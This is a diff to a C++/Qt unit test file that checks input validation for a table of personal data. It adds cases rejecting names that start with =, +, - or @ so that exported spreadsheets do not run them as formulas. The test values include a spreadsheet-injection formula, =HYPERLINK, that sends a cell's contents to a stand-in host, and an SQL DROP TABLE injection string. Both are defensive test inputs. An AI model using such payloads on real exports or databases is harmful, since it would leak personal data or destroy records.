@@ -44,7 +44,7 @@ TEST(PersonTable, EveryFieldRoundTripsUnchanged)
     PersonalData p;
     p.NAMN = QStringLiteral("Åse Ødegård O'Neil, \"Æsj\"");
     p.ADRESS = QStringLiteral("Storgata 1; 0155 Oslo");
-    p.TELEFON = QStringLiteral("+47 22 00 00 00");
+    p.TELEFON = QStringLiteral("0047 22 00 00 00 +");
     p.NATIONALITET = QStringLiteral("Norsk");
     p.HOMELANGUAGE = QStringLiteral("Nordsamisk");
     p.SKOLA = QStringLiteral("Skolen %s %d \\ ' -- DROP TABLE TESTPERSON");
@@ -86,8 +86,16 @@ TEST(PersonTable, TextsThatCannotBeStoredAreRefusedBeforeTheDatabase)
         QString name;
         QString expected;
     };
+    const QString formula = QStringLiteral(
+        "Feltet \"Navn\" kan ikke begynne med =, +, - eller @, fordi eksportfilen åpnes i regneark, som leser en slik "
+        "tekst som en formel og kjører den. Fjern tegnet, eller skriv teksten på en annen måte.");
     const Case cases[] = {
         {QString(50, QChar(u'a')), QStringLiteral("Teksten i feltet \"Navn\" er for lang. Feltet kan ha høyst 49 tegn.")},
+        // A spreadsheet opening the export would run these.
+        {QStringLiteral("=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")"), formula},
+        {QStringLiteral("+Ola"), formula},
+        {QStringLiteral("-Ola"), formula},
+        {QStringLiteral("@Ola"), formula},
         {QStringLiteral("Łukasz"), QStringLiteral("Feltet \"Navn\" inneholder tegnet \"Ł\", som ikke kan lagres. "
                                                   "Fjern eller erstatt tegnet.")},
         {QStringLiteral("Tab\there"), QStringLiteral("Feltet \"Navn\" inneholder tegnet \"U+0009\", som ikke kan lagres. "
